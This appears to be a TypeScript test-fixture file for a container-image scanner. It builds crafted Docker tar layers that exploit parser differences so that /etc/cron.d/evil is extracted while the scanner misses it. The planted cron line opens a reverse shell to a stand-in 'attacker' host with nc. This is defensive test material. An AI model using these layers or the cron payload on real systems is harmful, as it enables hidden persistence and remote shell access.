/**
 * Crafted layers of the attack2 tests, each confirmed against a real engine (Docker 20.10.24, overlay2:
 * `docker load` of `legacySave([{ tag, layers: [layer] }])`, then `docker export` of a created container).
 *   node --import tsx test/attack2/layers.ts DIR     writes DIR/<name>.tar for each
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { header, paxRecord } from '../sources/tar/helpers.js';
import { legacySave } from '../sources/archive/hostile-helpers.js';

export const pad = (b: Buffer) => Buffer.concat([b, Buffer.alloc((512 - (b.length % 512)) % 512)]);
export const CRON = Buffer.from('* * * * * root nc -e /bin/sh attacker 4444\n');
export const file = (name: string, body = CRON) => Buffer.concat([header({ name, body }), pad(body)]);
/** /etc, /etc/hostname, then the crafted members, then the end-of-archive marker. */
export const layerWith = (extra: Buffer[]) => Buffer.concat([header({ name: 'etc/', type: '5', mode: 0o755 }), file('etc/hostname', Buffer.from('box\n')), ...extra, Buffer.alloc(1024)]);
const pax = (recs: Buffer) => Buffer.concat([header({ name: 'PaxHeaders/x', type: 'x', size: recs.length }), pad(recs)]);
const longName = (flag: 'L' | 'K', v: Buffer) => Buffer.concat([header({ name: '././@LongLink', type: flag, size: v.length }), pad(v)]);

/** Rewrites a header block's checksum after an edit. */
export function resum(b: Buffer): Buffer {
  b.fill(0x20, 148, 156);
  let s = 0;
  for (const c of b) s += c;
  b.write(s.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
  return b;
}

/** Layers in which the engine extracts /etc/cron.d/evil (43 bytes of CRON) and layerscope lists no such file. */
export const HIDDEN: Record<string, [string, Buffer]> = {
  sparseNameOnly: [
    "PAX 'GNU.sparse.name' with no GNU.sparse version or map (Go: not a sparse file, the name stays)",
    layerWith([pax(paxRecord('GNU.sparse.name', 'etc/motd')), file('etc/cron.d/evil')]),
  ],
  sparseUnknownVersion: [
    "PAX GNU.sparse.major=2 (unknown version: Go ignores every GNU.sparse record) and GNU.sparse.name",
    layerWith([pax(Buffer.concat([paxRecord('GNU.sparse.major', '2'), paxRecord('GNU.sparse.minor', '0'), paxRecord('GNU.sparse.name', 'etc/motd')])), file('etc/cron.d/evil')]),
  ],
  sparseNameOverLongName: (() => {
    const recs = Buffer.concat([paxRecord('GNU.sparse.major', '1'), paxRecord('GNU.sparse.minor', '0'), paxRecord('GNU.sparse.name', 'etc/cron.d/evil'), paxRecord('GNU.sparse.realsize', String(CRON.length))]);
    const body = Buffer.concat([pad(Buffer.from(`1\n0\n${CRON.length}\n`)), CRON]);
    return [
      'GNU long name etc/motd and a PAX sparse 1.0 member named etc/cron.d/evil (Go: GNU.sparse.name is applied after the long name)',
      layerWith([longName('L', Buffer.from('etc/motd\0')), pax(recs), header({ name: 'placeholder', body }), pad(body)]),
    ] as [string, Buffer];
  })(),
  emptyLongName: ["an empty GNU long name ('L' whose body is one NUL): Go keeps the header's own name", layerWith([longName('L', Buffer.from('\0')), file('etc/cron.d/evil')])],
  gnuMagicOddVersion: (() => {
    const h = header({ name: 'etc/cron.d/evil', body: CRON });
    h.write('ustar \0\0', 257, 'latin1'); // GNU magic, version not " \0": Go's getFormat says V7 (no prefix)
    h.write('usr/share/doc', 345, 'latin1');
    return ["magic 'ustar ' with version NUL NUL and a prefix field: Go reads V7, no prefix", layerWith([resum(h), pad(CRON)])] as [string, Buffer];
  })(),
  notUstarMagic: (() => {
    const h = header({ name: 'etc/cron.d/evil', body: CRON });
    h.write('ustarX00', 257, 'latin1'); // magic is not "ustar\0": V7 for Go
    h.write('usr/share/doc', 345, 'latin1');
    return ["magic 'ustarX' and a prefix field: Go reads V7, no prefix", layerWith([resum(h), pad(CRON)])] as [string, Buffer];
  })(),
  gnuPre18Prefix: (() => {
    const h = header({ name: 'evil', body: CRON, magic: 'gnu' });
    h.write('etc/cron.d', 345, 'latin1'); // GNU atime field that is not octal: Go falls back to it as a ustar prefix
    return ["GNU magic whose atime/ctime do not parse and hold an ASCII prefix (Go's pre-1.8 fallback, golang.org/issue/12594)", layerWith([resum(h), pad(CRON)])] as [string, Buffer];
  })(),
};

if (process.argv[1] && import.meta.filename === process.argv[1]) {
  const dir = process.argv[2];
  if (!dir) throw new Error('usage: layers.ts DIR');
  mkdirSync(dir, { recursive: true });
  for (const [k, [, l]] of Object.entries(HIDDEN)) writeFileSync(join(dir, `${k.toLowerCase()}.tar`), legacySave([{ tag: `${k.toLowerCase()}:1`, layers: [l] }]));
}

/**
 * One zero block, then more members, then the end marker. Go's readHeader: a zero block followed by a non-zero
 * block is ErrHeader ("archive/tar: invalid tar header"), so `docker load` refuses the layer.
 */
export const LONE_ZERO_BLOCK = Buffer.concat([header({ name: 'etc/', type: '5', mode: 0o755 }), file('etc/hostname', Buffer.from('box\n')), Buffer.alloc(512), file('etc/cron.d/evil'), Buffer.alloc(1024)]);

/**
 * AUFS hardlink directory: `.wh..wh.plnk/1234` (the bytes) and /etc/cron.d/evil a hardlink to it. Docker 20.10
 * overlay2 (`docker load`) writes both into the diff dir: .wh..wh.plnk/1234 and etc/cron.d/evil, 43 bytes, one inode.
 */
export const AUFS_PLNK = layerWith([header({ name: '.wh..wh.plnk/', type: '5', mode: 0o700 }), file('.wh..wh.plnk/1234'), header({ name: 'etc/cron.d/evil', type: '1', linkname: '.wh..wh.plnk/1234' })]);
